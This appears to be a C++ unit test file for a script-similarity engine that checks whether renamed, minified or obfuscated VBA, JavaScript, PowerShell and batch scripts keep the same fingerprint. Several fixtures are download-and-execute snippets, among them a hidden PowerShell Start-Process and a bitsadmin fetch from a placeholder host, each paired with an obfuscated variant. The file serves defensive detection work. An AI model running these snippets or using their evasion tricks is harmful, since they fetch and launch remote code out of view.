// What a script is, is left when its names, literals and layout are changed; another script has none of it.
#include "mozu/gene/script.hpp"

#include <gtest/gtest.h>

#include <algorithm>
#include <string>
#include <vector>

#include "script_tokens.hpp"

namespace mozu::gene::script_test {
namespace {

Genome genome_of(Language l, std::string_view text) { return extract_script(l, {reinterpret_cast<const std::uint8_t*>(text.data()), text.size()}); }

std::vector<std::uint64_t> keys_of(const Genome& g, GeneClass c) {
  std::vector<std::uint64_t> out;
  for (const Gene& x : g.genes)
    if (class_of(x.key) == c) out.push_back(x.key);
  return out;
}

/// Of the genes of a, how many b has.
double share(const Genome& a, const Genome& b, GeneClass c) {
  const auto x = keys_of(a, c), y = keys_of(b, c);
  std::vector<std::uint64_t> both;
  std::ranges::set_intersection(x, y, std::back_inserter(both));
  return x.empty() ? 0 : static_cast<double>(both.size()) / static_cast<double>(x.size());
}

constexpr std::string_view basic = R"(Private Sub Fetch(ByVal address As String, target As String)
  ' takes a page and writes it down
  Dim request As Object, stream As Object
  Set request = CreateObject("MSXML2.XMLHTTP")
  request.Open "GET", address, False
  request.Send
  Set stream = CreateObject("ADODB.Stream")
  stream.Type = 1
  stream.Open
  stream.Write request.responseBody
  stream.SaveToFile target, 2
End Sub
)";
constexpr std::string_view basic_renamed = R"(PRIVATE SUB qx(BYVAL a1 AS STRING, zz AS STRING)
DIM o AS OBJECT, p AS OBJECT: SET o = CREATEOBJECT("MSX" & "ML2" & ".XMLHTTP")
o.OPEN "PO" & "ST", a1, FALSE
o.SEND: SET p = CREATEOBJECT("ADO" + "DB.Stream")
p.TYPE = 17
p.OPEN: p.WRITE _
  o.RESPONSEBODY
p.SAVETOFILE zz, 5
END SUB
)";
constexpr std::string_view basic_other = R"(Sub Report()
  Dim row As Integer, total As Double
  For row = 2 To ActiveSheet.UsedRange.Rows.Count
    If Cells(row, 3).Value > 0 Then total = total + Cells(row, 3).Value * 1.08
  Next row
  MsgBox "Total: " & Format(total, "0.00"), vbInformation, ActiveWorkbook.Name
End Sub
)";

TEST(Script, BasicIsTheSameWithOtherNamesAndLiterals) {
  const Genome a = genome_of(Language::visual_basic, basic), b = genome_of(Language::visual_basic, basic_renamed),
               c = genome_of(Language::visual_basic, basic_other);
  EXPECT_GT(keys_of(a, GeneClass::code).size(), 20U);
  EXPECT_GT(share(a, b, GeneClass::code), 0.7);
  EXPECT_LT(share(a, c, GeneClass::code), 0.05);
}

TEST(Script, JavaScriptIsTheSameAfterAMinifier) {
  const Genome a = genome_of(Language::javascript, R"(
// reads the list and asks for each
function collect(entries, callback) {
  var found = [];
  for (var index = 0; index < entries.length; index++) {
    var entry = entries[index];
    if (entry.name === "desktop.ini" || /thumbs\.db$/i.test(entry.name)) { continue; }
    found.push({ name: entry.name, size: entry.size, when: new Date(entry.modified).getTime() });
  }
  found.sort((left, right) => left.size - right.size);
  return callback(null, found);
}
)");
  const Genome b = genome_of(Language::javascript,
                             "function a(b,c){var d=[];for(var e=1;e<b.length;e++){var f=b[e];if(f.name===\"x\"||/y/.test(f.name))continue;"
                             "d.push({name:f.name,size:f.size,when:new Date(f.modified).getTime()})}d.sort((g,h)=>g.size-h.size);return c(null,d)}");
  EXPECT_GT(share(a, b, GeneClass::code), 0.9);
  EXPECT_EQ(share(a, b, GeneClass::function), 1.0);
}

TEST(Script, PowerShellIsTheSameWithOtherVariablesAndHiddenCommands) {
  const Genome a = genome_of(Language::powershell, R"(
function Get-Part($Url, $Path) {
  $client = New-Object System.Net.WebClient
  $client.Headers.Add("User-Agent", "Mozilla/5.0")
  $bytes = $client.DownloadData($Url)
  [System.IO.File]::WriteAllBytes($Path, $bytes)
  Start-Process -FilePath $Path -WindowStyle Hidden
}
)");
  const Genome b = genome_of(Language::powershell,
                             "function x($a1,$b2){$c=New-Ob`ject System.Net.WebClient;$c.Headers.Add('U'+'A','Q');$d=$c.DownloadData($a1);"
                             "[System.IO.File]::WriteAllBytes($b2,$d);sta`rt-PROCESS -filepath $b2 -windowstyle hidden}");
  EXPECT_GT(share(a, b, GeneClass::code), 0.9);
}

TEST(Script, BatchIsTheSameWithOtherVariablesAndCarets) {
  const Genome a =
      genome_of(Language::batch,
                "@echo off\nset HOST=one.example\nset OUT=%TEMP%\\a.dat\nif exist %OUT% del /q %OUT%\n"
                "bitsadmin /transfer job /download /priority high http://%HOST%/a.dat %OUT%\nstart \"\" %OUT%\n:wait\nping -n 3 127.0.0.1 >nul\ngoto wait\n");
  const Genome b = genome_of(Language::batch,
                             "rem new\n@ec^ho off\nset Q=two.example\nset Z=%TEMP%\\b.dat\nif exist %Z% d^el /q %Z%\n"
                             "bits^admin /transfer job /download /priority high http://%Q%/b.dat %Z%\nstart \"\" %Z%\n:l\nping -n 9 127.0.0.1 >nul\ngoto l\n");
  EXPECT_GT(share(a, b, GeneClass::code), 0.6);
}

TEST(Script, WideTextIsTheSameAndSaysWhereInTheFile) {
  std::string wide = "\xFF\xFE";
  for (const char c : basic) wide += c, wide += '\0';
  const Genome a = genome_of(Language::visual_basic, basic), b = genome_of(Language::visual_basic, wide);
  EXPECT_EQ(keys_of(a, GeneClass::code), keys_of(b, GeneClass::code));
  EXPECT_EQ(keys_of(a, GeneClass::text), keys_of(b, GeneClass::text));
  for (std::size_t i = 0; i < a.genes.size(); ++i) EXPECT_EQ(b.genes[i].offset, 2 + 2 * a.genes[i].offset);
}

TEST(Script, StringsAndCommentsAreText) {
  const Genome g = genome_of(Language::visual_basic, basic);
  EXPECT_EQ(keys_of(g, GeneClass::text).size(), 3U) << "the comment and two strings of eight characters or more";
}

TEST(Script, AnyBytesAreCutWithoutOverlap) {
  std::string bytes;
  std::uint32_t state = 1;
  for (int i = 0; i < 20000; ++i) bytes += static_cast<char>((state = state * 1664525 + 1013904223) >> 24U);
  const std::string brackets(50000, '('), quotes = "\"'`/*<#${%!^", functions = [] {
    std::string s;
    for (int i = 0; i < 5000; ++i) s += "function(";
    return s;
  }();
  for (int l = 0; l <= static_cast<int>(Language::php); ++l)
    for (const std::string& text :
         {bytes, brackets, quotes, functions, std::string("`"), std::string("^"), std::string("%"), std::string("/"), std::string()}) {
      std::size_t end = 0;
      for (const ScriptToken& t : script_tokens(static_cast<Language>(l), text)) {
        EXPECT_GE(t.offset, end);
        end = std::size_t{t.offset} + t.length;
        EXPECT_LE(end, text.size());
      }
      genome_of(static_cast<Language>(l), text);
    }
}

}  // namespace
}  // namespace mozu::gene::script_test
